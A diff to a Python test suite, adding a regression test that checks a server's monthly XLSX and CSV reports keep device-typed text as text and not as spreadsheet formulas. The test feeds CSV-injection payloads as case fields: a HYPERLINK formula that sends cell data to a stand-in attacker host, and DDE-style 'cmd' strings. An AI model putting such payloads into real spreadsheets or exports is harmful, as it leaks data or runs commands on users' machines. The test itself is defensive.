@@ -8,6 +8,7 @@ pieces; each failed on the merged code before its fix.
 
 from __future__ import annotations
 
+import datetime as dt
 from typing import Any
 
 from server.support import World, error_of, ok
@@ -128,3 +129,48 @@ def test_a_user_with_an_old_hash_costs_a_wrong_login_as_much_as_an_unknown_name(
         return max(costs)
 
     assert work("olduser") == work("nobody-here") == current
+
+
+FORMULA = '=HYPERLINK("http://attacker.invalid/?"&A1,"详情")'
+
+
+def test_text_a_device_typed_is_never_a_formula_in_the_office_s_reports(
+        world: World) -> None:
+    """A grid officer types an employer or a site name starting with ``=``;
+    the office opens the monthly workbook or CSV in Excel. openpyxl stored
+    such text as a formula (a link that sends the sheet's data elsewhere,
+    or worse), and the CSV left it for Excel to evaluate (CSV injection)."""
+    import csv
+    import io
+
+    import openpyxl
+
+    grid1 = world.device("grid1", "devA")
+    case_id = uuid7()
+    ok(grid1.sync(grid1.upsert("case", case_id, {
+        "village_id": world.v1, "site_id": world.site1, "sector": "construction",
+        "title": "+1+cmd|' /C calc'!A0", "employer": FORMULA, "workers_owed": 2,
+        "amount_owed": 9000}))[0])
+    ok(grid1.sync(grid1.upsert("site", world.site1, {"name": "@SUM(1+1)*cmd"}))[0])
+    office = world.login("office1", "office-pc")
+    month = dt.datetime.fromtimestamp(world.clock() / 1000,
+                                      dt.timezone(dt.timedelta(hours=8))).strftime("%Y-%m")
+    r = world.http.get("/api/v1/reports/monthly.xlsx", params={"month": month}, headers=office)
+    assert r.status_code == 200, r.text
+    book = openpyxl.load_workbook(io.BytesIO(r.content))
+    texts = {}
+    for ws in book.worksheets:
+        for row in ws.iter_rows():
+            for cell in row:
+                assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)
+                if isinstance(cell.value, str):
+                    texts[cell.value] = cell.data_type
+    assert texts.get(FORMULA) == "s"  # kept as the text typed
+    cells = []
+    for sheet in ("cases", "projects"):
+        r = world.http.get("/api/v1/reports/monthly.csv",
+                           params={"month": month, "sheet": sheet}, headers=office)
+        assert r.status_code == 200, r.text
+        cells += [c for row in csv.reader(io.StringIO(r.text.lstrip("\ufeff"))) for c in row]
+    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@")], cells
+    assert "'" + FORMULA in cells and "'@SUM(1+1)*cmd" in cells  # the text, shown as text
